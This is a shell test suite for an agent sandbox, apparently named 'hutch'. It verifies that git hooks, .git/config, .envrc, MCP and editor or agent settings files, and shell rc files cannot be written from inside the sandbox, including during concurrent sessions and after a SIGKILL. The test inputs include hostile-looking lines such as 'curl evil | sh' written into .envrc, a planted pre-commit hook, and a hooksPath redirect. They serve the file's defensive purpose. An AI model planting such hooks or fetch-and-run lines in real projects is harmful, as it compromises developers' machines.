#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# Protected paths: read-only even inside the writable workspace, existing or not, at the
# workspace root and in a git repository under it; nothing is left behind on the host
# (also after hutch is killed with SIGKILL); git add/commit keep working.
# shellcheck source=tests/lib.sh disable=SC2016
. "$(dirname "$0")/../lib.sh"
require_sandbox

# errno texts a refused write may legitimately produce (dash prints "cannot create X: <why>";
# dash shortens ENOENT to "No such file" and ENOTDIR to "Not a directory").
REFUSED="Read-only file system|Permission denied|Is a directory|File exists|Operation not permitted|Not a directory|No such file|Device or resource busy"

make_git_repo "$WS/nested" >/dev/null
echo "# original hook" >.git/hooks/post-checkout
chmod 755 .git/hooks/post-checkout
before=$(tree_snapshot "$WS")
config_before=$(cat .git/config)

# try NAME SCRIPT: SCRIPT must fail with one of the errno texts above.
try() {
	local name=$1 script=$2
	hrun run -- sh -c "$script"
	isnt "$RC" 0 "$name: refused (exit $RC)"
	like "$ERR" "$REFUSED" "  with an errno ($(head -1 <<<"$ERR"))"
}

for root in . nested; do
	try "$root: write .git/hooks/pre-commit (new)" "printf '#!/bin/sh\\necho EVIL\\n' > $root/.git/hooks/pre-commit"
	try "$root: write .git/config" "echo '[core] hooksPath = /tmp/evil' >> $root/.git/config"
	try "$root: truncate .git/config" ": > $root/.git/config"
	try "$root: create .mcp.json" "echo '{\"mcpServers\":{}}' > $root/.mcp.json"
	try "$root: create .envrc" "echo 'curl evil | sh' > $root/.envrc"
	try "$root: create .vscode/tasks.json" "mkdir -p $root/.vscode && echo '{}' > $root/.vscode/tasks.json"
	try "$root: create .claude/settings.json" "mkdir -p $root/.claude && echo '{}' > $root/.claude/settings.json"
done
try "create .gitmodules" "echo '[submodule]' > .gitmodules"
try "create .idea/workspace.xml" "mkdir -p .idea && echo x > .idea/workspace.xml"
try "create .codex/config.toml" "mkdir -p .codex && echo x > .codex/config.toml"
try "create .gemini/settings.json" "mkdir -p .gemini && echo x > .gemini/settings.json"
try "create .hutch.json" "echo '{}' > .hutch.json"
# Shell rc files: a shell reads them from a home alone ($HOME, $ZDOTDIR, a home the user
# database names: src/lib/base/homedir.c). In a workspace that is one, each is refused,
# existing or not; in one that is none, a missing one is the project's own file (no
# placeholder: nothing reads it), an existing one stays read-only (a dotfiles repository's
# file that the home's link points to).
for rc in .bashrc .bash_profile .zshrc .zprofile .profile; do
	HOME=$WS hrun run --allow-dangerous-workspace -- sh -c "echo evil > $rc"
	isnt "$RC" 0 "create $rc in a workspace that is \$HOME: refused (exit $RC)"
	like "$ERR" "$REFUSED" "  with an errno ($(head -1 <<<"$ERR"))"
done
ZDOTDIR=$WS hrun run -- sh -c "echo evil > .zshrc"
isnt "$RC" 0 "create .zshrc in a workspace that is \$ZDOTDIR: refused (exit $RC)"
for root in . nested; do
	hrun run -- sh -c "ls -a $root; echo mine > $root/.bashrc && cat $root/.bashrc && rm $root/.bashrc"
	is "$RC" 0 "$root, not a home: .bashrc is the project's own file"
	unlike "$OUT" "^\.(bashrc|bash_profile|zshrc|zprofile|profile)$" "  no placeholder for a shell rc file there"
	like "$OUT" "^\.envrc$" "  (the other placeholders are there)"
	like "$OUT" "^mine$" "  written and read back"
done
echo "# the user's" >nested/.profile
try "nested, not a home: write an existing .profile" "echo evil >> nested/.profile"
is "$(cat nested/.profile)" "# the user's" "  unchanged"
rm nested/.profile
try "modify an existing hook" "echo EVIL >> .git/hooks/post-checkout"
try "delete an existing hook" "rm .git/hooks/post-checkout"
try "replace .git/hooks by renaming it away" "mv .git/hooks .git/hooks.old"
try "remove .git/hooks" "rm -rf .git/hooks && test ! -e .git/hooks"
try "replace .git/config by rename" "echo x > cfg && mv cfg .git/config"
try "symlink into .git/hooks" "ln -s .git/hooks hooklink && echo EVIL > hooklink/pre-commit"
rm -f hooklink cfg

after=$(tree_snapshot "$WS")
same_tree "$before" "$after" \
	"after all these sessions the workspace is exactly as before (no placeholders, nothing changed)"
is "$(cat .git/config)" "$config_before" ".git/config unchanged"
check ".git/hooks/pre-commit does not exist on the host" test ! -e .git/hooks/pre-commit

# ---- the repository search is cached; a repository made between runs is still found ---------
# scancache.c: the next run reuses the search when no directory it read changed (same ctime).
# A repository created at each depth the search covers (three below the root) is protected
# in the next run, also with the directory's mtime set back (ctime cannot be).
mkdir -p scan/a/b
hrun run -- true
is "$RC" 0 "a run fills the repository search's cache"
check "  kept in hutch's state directory" test -n "$(ls "$XDG_STATE_HOME/hutch/scan/" 2>/dev/null)"
hrun run -- sh -c "ls $XDG_STATE_HOME/hutch/scan 2>&1 || true"
unlike "$OUT" "[0-9a-f]{32}" "  which the sandbox cannot see"
for d in scan/a/b scan/a scan; do
	stamp=$(stat -c %y "$d")
	make_git_repo "$d" >/dev/null
	touch -d "$stamp" "$d"
	try "$d made a repository between runs (mtime set back): write its .git/hooks/pre-commit" \
		"echo EVIL > $d/.git/hooks/pre-commit"
	try "  and create its .envrc" "echo EVIL > $d/.envrc"
done
rm -rf scan
before=$(tree_snapshot "$WS")

# Moving .git itself away and recreating it must not yield a writable hooks directory.
hrun run -- sh -c 'mv .git .git-moved && mkdir -p .git/hooks && printf "#!/bin/sh\necho EVIL\n" > .git/hooks/pre-commit'
found=$(grep -rl "echo EVIL" "$WS" --include='*' 2>/dev/null | grep '/hooks/')
is "$found" "" "renaming .git away and recreating .git/hooks does not plant a hook on the host"
# Put things back if the sandbox did let the rename through, so the rest can go on.
if [ -d .git-moved ]; then
	rm -rf .git && mv .git-moved .git
fi
before=$(tree_snapshot "$WS")

# ---- a process left behind keeps trying while the session ends ----------------------------
# Placeholders are removed as soon as init reports every other process gone (while the kernel
# takes the namespaces down): a background loop creating protected names until it is killed
# must not get one through in that window.
hrun run -- sh -c 'trap "" TERM HUP INT
	(trap "" TERM HUP INT; while :; do
		echo EVIL > .mcp.json; echo EVIL > .envrc; mkdir -p .vscode .claude .git/hooks
		echo EVIL > .git/hooks/pre-commit; echo EVIL > .claude/settings.json
	done) 2>/dev/null &
	sleep 0.3'
is "$RC" 0 "a session ends with a background loop writing protected names"
after=$(tree_snapshot "$WS")
same_tree "$before" "$after" "  nothing it wrote is on the host, no placeholder is left"

# ---- nothing left behind after SIGKILL of hutch -------------------------------------------
SIG=$T/sig
mkdir "$SIG"
D="1000.$$$RANDOM"
hrun_bg run --rw "$SIG" -- sh -c "touch '$SIG/started'; sleep $D"
wait_for_file "$SIG/started"
ok $? "a session is running"
kill -KILL "$HPID"
wait_hutch "$HUTCH_TEST_TIMEOUT"
is "$RC" 137 "hutch killed with SIGKILL"
wait_no_process "^sleep $D\$" 10
ok $? "  and its processes are gone"
hrun run -- true
is "$RC" 0 "the next hutch run works"
after=$(tree_snapshot "$WS")
same_tree "$before" "$after" \
	"after kill -9 and another run, the workspace is exactly as before (leftovers cleaned)"

# ---- concurrent sessions on one workspace -----------------------------------------------------
# An agent runs in one session while its tool calls run in others: a session that ends (and
# cleans up) must not take the protection away from one still running.
rm -f "$SIG"/*
hrun_bg run --rw "$SIG" -- sh -c "touch '$SIG/started'; while [ ! -e '$SIG/go' ]; do sleep 0.1; done
	for f in .mcp.json .envrc .vscode/tasks.json .git/hooks/pre-commit; do
		mkdir -p \"\$(dirname \$f)\" 2>/dev/null; (echo EVIL > \$f) 2>/dev/null && echo \"wrote \$f\"
	done; echo checked"
wait_for_file "$SIG/started"
ok $? "a long session A is running"
for i in 1 2 3; do
	hrun run -- true
done
is "$RC" 0 "three short sessions ran and ended meanwhile in the same workspace"
touch "$SIG/go"
wait_hutch "$HUTCH_TEST_TIMEOUT"
is "$OUT" "checked" "session A still cannot create protected paths after the others cleaned up"
after=$(tree_snapshot "$WS")
same_tree "$before" "$after" "after all the sessions, the workspace is exactly as before"

# The other order: session A makes the placeholders, session B starts while A runs and
# shares them, A ends first: B must still be protected (the last run removes them).
rm -f "$SIG/b-up"
hrun_bg run --rw "$SIG" -- sh -c "while [ ! -e '$SIG/b-up' ]; do sleep 0.05; done"
sleep 0.3
# B: tell A to end, give A time to end and clean up, then try the protected paths.
hrun run --rw "$SIG" -- sh -c "touch '$SIG/b-up'; sleep 2; \
	{ echo x > .mcp.json; } 2>/dev/null && echo WROTE; { mkdir -p .vscode/x; } 2>/dev/null && echo MKDIR; echo checked"
is "$OUT" "checked" "session B, which started during A and outlived it, is still protected"
wait_hutch "$HUTCH_TEST_TIMEOUT"
is "$RC" 0 "  (session A, which made the placeholders, ended first)"
rm -f "$SIG/b-up"
same_tree "$before" "$(tree_snapshot "$WS")" "  and afterwards the workspace is exactly as before"

# Runs ending while others run: each one's end-of-run git check lists the workspace while
# the others remove their placeholders. A placeholder gone between the listing and its open
# is nothing to report (it said "could not check or neutralise .vscode" before).
for _ in 1 2 3; do
	for i in 1 2 3 4 5 6; do
		timeout -k 5 60 "$HUTCH" run -- sh -c 'i=0; while [ $i -lt 20 ]; do i=$((i + 1)); /bin/true; done' \
			2>"$T/conc-$i.err" &
	done
	wait
	cat "$T"/conc-*.err >>"$T/conc.err"
done
is "$(grep -c 'could not check' "$T/conc.err")" 0 \
	"18 runs ending beside each other: no end-of-run warning ($(head -c 200 "$T/conc.err"))"
same_tree "$before" "$(tree_snapshot "$WS")" "  and afterwards the workspace is exactly as before"

# ---- git keeps working ----------------------------------------------------------------------
hrun run -- sh -c 'echo content > tracked.txt && git add tracked.txt && git commit -q -m "from the sandbox" && git log --format=%s -1'
is "$RC" 0 "git add + git commit inside the sandbox succeed"
is "$OUT" "from the sandbox" "  the commit is made"
is "$(git log --format=%s -1)" "from the sandbox" "  and visible on the host"
is "$(git status --porcelain -- tracked.txt)" "" "  the host's git sees tracked.txt committed"

hrun run -C nested -- sh -c 'echo n > n.txt && git add n.txt && git commit -q -m nested-commit && echo ok'
is "$OUT" "ok" "git commit in a nested repository works too"
is "$(git -C nested log --format=%s -1)" "nested-commit" "  and is visible on the host"

done_testing
